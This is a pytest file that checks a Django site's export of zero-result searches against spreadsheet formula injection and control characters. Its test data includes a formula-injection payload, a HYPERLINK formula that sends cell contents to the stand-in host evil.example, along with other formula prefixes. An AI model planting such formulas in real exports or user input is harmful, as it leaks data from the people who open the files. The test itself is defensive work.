"""The editors' export of searches with no results is safe to open: a search that looks like a
spreadsheet formula stays text, a "%00" search is refused (core/guard.py) and other control
characters are neither stored nor break the XLSX file (ADR 0023)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from careguide.search import zero
from careguide.search.models import ZeroResultQuery

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)"]


def export(client, editor, fmt):
    client.force_login(editor)
    response = client.get(reverse("search_zero_results_report"), {"export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def formula_rows():
    for text in FORMULAS:
        zero.record(text)


def test_formula_searches_are_text_in_the_csv(client, editor, formula_rows):
    rows = list(csv.reader(io.StringIO(export(client, editor, "csv").decode())))
    queries = {row[0] for row in rows[1:]}
    assert queries == {"'" + text.lower() for text in FORMULAS}
    assert not any(q.startswith(("=", "+", "-", "@")) for q in queries)


def test_formula_searches_are_text_cells_in_the_xlsx(client, editor, formula_rows):
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, editor, "xlsx"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {text.lower() for text in FORMULAS}
    assert {c.data_type for c in cells} == {"s"}


def test_a_nul_search_is_refused_and_other_control_characters_are_not_stored(client):
    response = client.get(reverse("search:search"), {"q": "zzqx\x00wwqy"})
    assert response.status_code == 400
    assert "The field “q” in the address contains a null character" in response.content.decode()
    assert not ZeroResultQuery.objects.exists()
    assert client.get(reverse("search:search"), {"q": "zzqx\x0bwwqy\x1f"}).status_code == 200
    assert list(ZeroResultQuery.objects.values_list("query", flat=True)) == ["zzqx wwqy"]


def test_an_old_row_with_control_characters_still_exports(client, editor):
    ZeroResultQuery.objects.create(query="bone\x0bmets\x1f", count=2)  # stored before the fix (SQLite kept it)
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, editor, "xlsx"))).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["bonemets"]
    assert "bonemets" in export(client, editor, "csv").decode()
